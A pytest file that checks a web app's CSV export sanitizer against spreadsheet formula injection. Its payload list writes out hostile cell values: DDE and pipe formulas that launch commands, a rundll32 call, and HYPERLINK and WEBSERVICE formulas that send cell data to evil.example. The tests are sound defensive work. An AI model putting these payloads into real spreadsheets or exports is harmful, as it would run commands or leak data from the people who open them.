"""Files for spreadsheets: nothing in them acts, and all that was stored is in them"""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.pages.csv_file import attachment, harmless

SIGNS = "=+-@\t\r\0\uff1d\uff0b\uff0d\uff20"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT(A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|'/c calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=@SUM(1+1)",
    "+1+1",
    "+61 412 345 678",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "-",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "@",
    "\t=1+1",
    "\tname",
    "\r=1+1",
    "\rname",
    "\0=1+1",
    "\0name",
    " =1+1",
    '"=1+1',
    '"";=1+1;""',
    ";=1+1",
    "x;=1+1",
    "x; =1+1;y",
    "x;+61 412;-3;@x",
    "x|=1+1",
    "x,=1+1",
    "x\n=1+1",
    "x\r\n=1+1\r\n",
    "x\t=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    "''=1+1",
]
PLAIN = [
    *("", "Olivia", "O'Brien", "Nguyễn", "Anne-Marie", "olivia@example.com", "2001-05-21"),
    *("Mobile: +61 412 345 678; Home: +61 7", "0412 345 678", "a = b", "'quoted'", 'the "one"'),
    *("0", "7", "123456789012345", "12.50", "1234567890123456 7", "007\n1"),
    *("a, b", "two\nlines", "שלום", "1 + 1", "x;y", "'"),
]


def cells_of(text: str, separator: str) -> list[str]:
    return re.split("[\r\n]+", text) if separator == "\n" else text.split(separator)


def restored(cell: str) -> str:
    """What was stored, from what is in the file."""
    cell = re.sub(r"^'(?='*(?:0[0-9]+|[0-9]{16,})\Z)", "", cell)
    return re.sub(rf"(^|[;,|\t\r\n])([ \"]*)'(?='*[{re.escape(SIGNS)}])", r"\1\2", cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_with_what_acts_however_it_is_cut(payload: str) -> None:
    cell = harmless(payload)
    assert cell != payload
    for separator in (";", ",", "|", "\t", "\n"):
        for part in cells_of(cell, separator):
            assert (
                not part.strip(' "')[:1]
                or part.strip(' "')[0] not in "=+-@\0\uff1d\uff0b\uff0d\uff20"
            )
    assert cell[0] not in SIGNS
    assert restored(cell) == payload


@pytest.mark.parametrize("digits", ["1041015461061461984", "0491570156", "00", "'007"])
def test_digits_that_a_spreadsheet_would_change_are_text(digits: str) -> None:
    assert harmless(digits) == f"'{digits}"
    assert restored(harmless(digits)) == digits


@pytest.mark.parametrize("text", PLAIN)
def test_what_does_not_act_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.text(alphabet=f"{SIGNS}'\" ;,|\nab01", max_size=20))
def test_what_was_stored_can_be_had_back(text: str) -> None:
    assert restored(harmless(text)) == text


def test_a_file_is_read_back_as_it_was_written() -> None:
    rows = [[payload, text] for payload in PAYLOADS for text in PLAIN]
    answer = attachment("things", ["First", "Second"], rows)
    content = answer.get_data()

    assert content.startswith(b"\xef\xbb\xbfFirst,Second\r\n")
    assert answer.content_type == "text/csv; charset=utf-8"
    name = answer.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="things-\d{4}-\d{2}-\d{2}\.csv"', name)
    text = content.decode("utf-8-sig").replace("\0", "\ufffe")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [[restored(cell.replace("\ufffe", "\0")) for cell in row] for row in read] == rows


def test_it_is_sent_in_parts() -> None:
    answer = attachment("things", ["Text"], ([f"{number:0100}"] for number in range(5_000)))
    parts = list(answer.iter_encoded())
    assert len(parts) > 5
    assert max(map(len, parts)) < 70_000
